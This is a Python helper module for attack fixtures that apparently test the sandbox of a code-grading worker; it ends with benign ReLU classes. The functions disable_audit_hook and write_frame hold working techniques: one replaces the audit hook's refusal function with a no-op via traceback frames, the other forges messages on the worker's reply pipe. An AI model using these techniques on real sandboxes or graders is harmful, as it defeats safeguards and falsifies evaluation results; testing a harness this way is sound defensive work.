# ruff: noqa
"""Tools the attack fixtures share (their own code, imported like a student's own module):
report findings through an exception's text, and switch the worker's audit hook off."""
import json
import os


def report(**found):
    """End the attempt: the findings travel back as the text of an exception."""
    raise RuntimeError("FINDINGS " + json.dumps(found, default=str))


def disable_audit_hook():
    """Reach the hook's `refuse` through a refused attempt's traceback frames and replace
    its code with a no-op: from here on no Python-level attempt is refused."""
    try:
        os.system("true")
    except PermissionError as e:
        tb = e.__traceback__
        while tb is not None:
            frame = tb.tb_frame
            if frame.f_code.co_name == "refuse":
                refuse = frame.f_back.f_locals["refuse"]
                n = len(refuse.__code__.co_freevars)
                names = ", ".join(f"v{i}" for i in range(n))
                src = (f"def outer():\n    {names} = {', '.join(['None'] * n)}\n"
                       f"    def refuse(what):\n        ({names},)\n        return None\n"
                       f"    return refuse\n")
                ns = {}
                exec(src, ns)
                refuse.__code__ = ns["outer"]().__code__
                return True
            tb = tb.tb_next
    return False


def libc():
    """The C library through ctypes (the audit hook must be off first)."""
    import ctypes
    return ctypes.CDLL(None, use_errno=True)


def write_frame(obj=None, raw=None):
    """Write a message straight onto the worker's reply pipe (forging the worker)."""
    import struct
    data = raw
    if data is None:
        body = json.dumps(obj).encode()
        data = struct.pack("<4sIQ", b"LCw1", len(body), 0) + body
    for fd in range(3, 64):
        try:
            target = os.readlink(f"/proc/self/fd/{fd}")
        except OSError:
            continue
        if target.startswith("pipe:") and os.get_blocking(fd) and _writable(fd):
            os.write(fd, data)
            return fd
    return None


def _writable(fd):
    import fcntl
    return fcntl.fcntl(fd, fcntl.F_GETFL) & os.O_ACCMODE in (os.O_WRONLY, os.O_RDWR)


def relu_forward(x):
    import numpy as np
    return np.maximum(x, 0)


class HonestRelu:
    """A correct ReLU the attacks build on."""

    def forward(self, x):
        import numpy as np
        self.mask = x <= 0
        return np.where(self.mask, 0, x)

    def backward(self, dout):
        dx = dout.copy()
        dx[self.mask] = 0
        return dx
